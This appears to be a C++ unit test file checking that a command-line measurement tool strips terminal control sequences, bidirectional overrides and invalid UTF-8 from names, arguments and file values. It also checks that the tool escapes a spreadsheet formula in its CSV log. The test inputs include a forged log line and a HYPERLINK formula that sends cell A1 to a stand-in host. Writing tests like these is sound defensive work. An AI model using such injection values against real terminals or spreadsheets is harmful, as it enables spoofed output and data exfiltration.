// What comes out of files, names and arguments must not act on a terminal.
#include "../compare/scene.hpp"
#include "catch.hpp"
#include "files/job_file.hpp"
#include "files/training_log.hpp"
#include "ripplegauge/json/reading_file.hpp"
#include "run_program.hpp"

using namespace ripplegauge;
using Catch::Matchers::ContainsSubstring;

namespace {

/// Escape, bell, carriage return, line feed, delete; C1 control sequence introducer and next line;
/// right-to-left override and isolate, left-to-right mark; line and paragraph separators; bytes that are no
/// UTF-8.
const std::vector<std::string> evil = {"\x1B[2J", "\a",       "\r",           "\n",      "\x7F",   "\u009B2J",
                                       "\u0085",  "\u202E",   "\u2066",       "\u200E",  "\u2028", "\u2029",
                                       "\xFF",    "\xC0\xAF", "\xED\xA0\x80", "\xE2\x80"};

/// Whether text holds nothing but lines that a terminal shows as they are.
void check_harmless(const std::string& text) {
  INFO(text);
  for (const std::string& part : evil)
    if (part != "\n") CHECK(text.find(part == "\xE2\x80" ? "\xE2\x80-" : part) == std::string::npos);
}

}  // namespace

TEST_CASE("names and arguments reach the terminal without what it would obey", "[cli][output]") {
  for (const std::string& part : evil) {
    const std::string name = "a" + part + "-b.jpg";
    for (const auto& arguments : {std::vector<std::string>{"measure", name, "--board-pitch", "14"},
                                  std::vector<std::string>{"measure", "x.jpg", "--" + name},
                                  std::vector<std::string>{"job", "list", name}}) {
      const ProgramRun run = run_program(arguments);
      CHECK(run.exit_code != 0);
      CHECK_THAT(run.err + run.out, ContainsSubstring("-b.jpg"));
      check_harmless(run.err + run.out);
    }
  }
  // One line stays one line, so that a name cannot make up what the program says.
  const ProgramRun run =
      run_program({"measure", "a\nripplegauge: all is well\nb.jpg", "--board-pitch", "14"});
  CHECK(std::count(run.err.begin(), run.err.end(), '\n') == 1);
}

TEST_CASE("words of every script pass", "[cli][output]") {
  const std::string name = "T\u00FCr \u5DE6 \u05D3\u05DC\u05EA \U0001F697.jpg";
  CHECK_THAT(run_program({"measure", name, "--board-pitch", "14"}).err, ContainsSubstring(name));
}

TEST_CASE("values of files reach the terminal without what it would obey", "[cli][output]") {
  const TemporaryFolder folder;
  Reading before = test::reading({test::spot(Kind::low, 40, 50, 0.5, 20)}), after = before;
  before.photo.name = "b\u202E\u009B31m.jpg";
  after.photo.name = "a\u2028.jpg";
  before.warnings = after.warnings = {{"code", "warned \u009B2J \u2066 of"}};
  const std::string b = folder.write("b.json", reading_to_json(before)),
                    a = folder.write("a.json", reading_to_json(after));
  const std::string job = folder.file("job.json");
  for (const auto& arguments : {std::vector<std::string>{"plan", b}, std::vector<std::string>{"next", b, a},
                                std::vector<std::string>{"compare", b, a},
                                std::vector<std::string>{"job", "add", job, "--panel", "roof \u202E", b, a},
                                std::vector<std::string>{"job", "list", job}}) {
    const ProgramRun run = run_program(arguments);
    INFO(arguments.front() << run.err);
    CHECK(run.exit_code == 0);
    check_harmless(run.out + run.err);
  }
}

TEST_CASE("a photo named like a formula is text in the training log", "[cli][output]") {
  const TemporaryFolder folder;
  Reading reading = test::reading({test::spot(Kind::low, 40, 50, 0.5, 20)});
  reading.photo.name = "=HYPERLINK(\"http://nowhere.invalid/?\"&A1,\"open\")";
  const std::string file = folder.write("r.json", reading_to_json(reading)), log = folder.file("log.csv");
  REQUIRE(
      run_program({"compare", file, file, "--log", log, "--who", "bay 2", "--exercise", "door"}).exit_code ==
      0);
  CHECK_THAT(folder.read("log.csv"),
             ContainsSubstring("\"'=HYPERLINK") && !ContainsSubstring("\"=") && !ContainsSubstring(",="));
  CHECK(read_training_log(log).size() == 1);
}
